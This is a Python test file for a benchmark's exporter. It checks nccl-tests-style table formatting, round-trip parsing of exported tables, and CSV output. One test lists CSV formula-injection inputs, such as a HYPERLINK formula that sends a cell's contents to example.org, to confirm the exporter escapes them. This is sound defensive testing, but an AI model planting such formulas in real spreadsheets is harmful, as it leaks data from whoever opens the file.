"""Tables as nccl-tests prints them, and CSV; what is exported is read back."""

from __future__ import annotations

import csv
import io
import math

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bench.exchange.exporting import nccl_tests as exports
from bench.exchange.exporting.nccl_tests import Figures, Line, float_text
from bench.exchange.importing import nccl_tests
from bench.model.measurement import Case, Measurement, Rank
from bench.model.units import GIGA, MICRO
from bench.store.rows import row_of

RANKS = tuple(Rank(k, f"node{k // 8}", k % 8, "NVIDIA H100 80GB HBM3") for k in range(16))


def all_reduce(size: int, seconds: float, n: int, wrong: int | None = 0) -> Figures:
    return Figures(seconds, size / seconds, size / seconds * 2 * (n - 1) / n, wrong)


@pytest.mark.parametrize(
    ("value", "width", "text"),
    [
        (35.2, 7, "  35.20"),
        (9999.99, 7, "9999.99"),
        (12345.678, 7, "12345.7"),
        (999999.96, 7, "1000000"),
        (12345678.9, 7, "1.2e+07"),
        (383.23, 6, "383.23"),
        (1004.567, 6, "1004.6"),
        (10947.0, 6, " 10947"),
        (1234567.0, 6, " 1e+06"),
        (0.0, 6, "  0.00"),
        (math.nan, 6, "   nan"),
        (math.inf, 7, "    inf"),
    ],
)
def test_numbers_are_printed_as_nccl_tests_prints_them(value, width, text):
    assert float_text(value, width) == text


def test_the_table_looks_like_nccl_tests():
    line = Line(1 << 32, 1 << 30, "float32", "sum", -1, Figures(0.022181, 193.63e9, 383.23e9, 0), None)
    assert exports.table_line(line) == (
        "  4294967296    1073741824     float     sum      -1  22181.0  193.63  383.23       0"
    )
    both = Line(
        1 << 20, 1 << 18, "float16", out=Figures(1e-5, 1e9, 1e9, None), into=Figures(1e-5, 1e9, 1e9, 3)
    )
    assert exports.table_line(both) == (
        "     1048576        262144      half    none      -1"
        "    10.00    1.00    1.00     N/A    10.00    1.00    1.00       3"
    )
    assert "#       size         count      type   redop    root     time   algbw   busbw  #wrong" in (
        exports.table_header("all_reduce")
    )


def test_an_in_place_row_leaves_the_other_columns_blank():
    line = Line(8, 2, "float32", "sum", -1, None, all_reduce(8, 1e-5, 2))
    (run,) = nccl_tests.parse(exports.table("all_reduce", [line], RANKS[:2]))
    assert [row.placement for row in run.rows] == ["in"]
    assert run.complete


def test_the_footer_counts_cases_with_errors():
    lines = [Line(1 << 20, 1 << 18, "float32", "sum", -1, all_reduce(1 << 20, 1e-4, 16, 5), None)]
    assert " : 1 FAILED" in exports.table_footer("all_reduce", lines)
    assert " : nan" in exports.table_footer("all_reduce", [])


COLLECTIVES = {
    "all_reduce": (2.0, False, "sum", -1),
    "all_gather": (1.0, True, "none", -1),
    "reduce_scatter": (1.0, True, "sum", -1),
    "all_to_all": (1.0, True, "none", -1),
    "broadcast": (0.0, False, "none", 0),
    "p2p": (0.0, False, "none", -1),
}


@st.composite
def tables(draw: st.DrawFn) -> tuple[str, list[Line], int]:
    name = draw(st.sampled_from(sorted(COLLECTIVES)))
    times, blocks, op, root = COLLECTIVES[name]
    n = draw(st.integers(2, 16))
    factor = times * (n - 1) / n if times else 1.0

    def figures(size: int, verified: bool = True) -> Figures:
        seconds = draw(st.floats(2e-6, 50.0))
        wrong = draw(st.none() | st.integers(0, 999_999)) if verified else None
        return Figures(seconds, size / seconds, size / seconds * factor, wrong)

    lines = []
    for count in draw(st.lists(st.integers(1, 1 << 30), min_size=1, max_size=5)):
        size = 4 * count * (n if blocks else 1)
        which = draw(st.sampled_from(["out", "in", "both"]))
        out = figures(size) if which != "in" else None
        into = (
            figures(size, name != "all_to_all") if which != "out" else None
        )  # which nccl-tests never verifies
        lines.append(Line(size, count, "float32", op, root, out, into))
    return name, lines, n


def close(read: float, was: float, width: int, unit: float) -> bool:
    """Equal within half of the last printed digit."""
    text = float_text(was / unit, width).strip()
    return abs(read - float(text) * unit) <= 1e-9 * abs(was) + 1e-12 * unit


@settings(max_examples=50)
@given(tables())
def test_what_is_exported_is_imported_to_the_printed_digits(table):
    name, lines, n = table
    (run,) = nccl_tests.parse(exports.table(name, lines, RANKS[:n]))
    wanted = [
        (line, place, part)
        for line in lines
        for place, part in (("out", line.out), ("in", line.into))
        if part is not None
    ]
    assert run.collective == name
    assert run.ranks == n
    assert run.complete, run.problems
    assert len(run.rows) == len(wanted)
    for row, (line, place, part) in zip(run.rows, wanted, strict=True):
        assert (row.size, row.count, row.dtype, row.op, row.root, row.placement) == (
            line.size,
            line.count,
            line.dtype,
            line.op,
            line.root,
            place,
        )
        assert row.wrong == part.wrong
        assert close(row.seconds, part.seconds, 7, MICRO)
        assert close(row.algbw, part.algbw, 6, GIGA)
        assert close(row.busbw, part.busbw, 6, GIGA)


def measurement(case: Case, seconds: float, wrong: int | None = 0) -> Measurement:
    ranks = case.groups[0]
    return Measurement(
        case=case.id,
        ranks=ranks,
        pipelined=((seconds,) * len(ranks),),
        calls=5,
        isolated=(),
        wrong=(wrong,) * len(ranks),
        checked=0 if wrong is None else 100,
        mismatches=(),
        stop="count",
        width=math.inf,
        warmup=1,
    )


def case(placement: str, size: int = 1 << 20, **more: str) -> Case:
    name = f"{placement}-{size}"
    return Case(
        name, "collectives", "all_gather", size, size // 16, ((0, 1, 2, 3),), placement=placement, **more
    )


def test_both_placements_of_a_size_share_a_line():
    rows = [row_of(c, measurement(c, 1e-3)) for c in (case("out"), case("in"), case("out", 1 << 21))]
    ((key, lines),) = exports.lines_of(rows).items()
    assert key == ("all_gather", (0, 1, 2, 3), "auto", "")
    assert [(bool(line.out), bool(line.into)) for line in lines] == [(True, True), (True, False)]


def test_algorithms_and_rails_do_not_share_a_table():
    cases = (case("out"), case("out", algorithm="Ring"), case("out", rail="mlx5_3"))
    assert len(exports.lines_of([row_of(c, measurement(c, 1e-3)) for c in cases])) == 3


def test_csv_leaves_what_is_not_known_empty():
    good, bad = case("out"), case("in")
    rows = [row_of(good, measurement(good, 1e-3)), row_of(bad, measurement(bad, math.nan, None))]
    first, second = csv.DictReader(io.StringIO(exports.csv_text(rows)))
    assert float(first["algbw_bytes_per_second"]) == pytest.approx((1 << 20) / 1e-3)
    assert float(first["busbw_gigabits_per_second"]) == pytest.approx(
        8 * float(first["busbw_gigabytes_per_second"])
    )
    assert (first["wrong"], first["ranks"], first["p50_seconds"]) == ("0", "4", "")
    assert (second["wrong"], second["checked"], second["seconds"], second["busbw_bytes_per_second"]) == (
        "",
        "0",
        "",
        "",
    )


FORMULAS = ('=HYPERLINK("http://example.org/?"&A1)', "@SUM(1+1)", "+1", "-2+3", " =1", "\t=1", "\r=1")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_csv_file_is_a_formula(text):
    """A spreadsheet runs what begins like one, with the rights of whoever opens the file."""
    rows = [row_of(made, measurement(made, 1e-3)) for made in (case("out", rail=text),)]
    (read,) = csv.DictReader(io.StringIO(exports.csv_text(rows), newline=""))
    assert read["rail"] == f"'{text}"
    assert read["root"] == "-1"
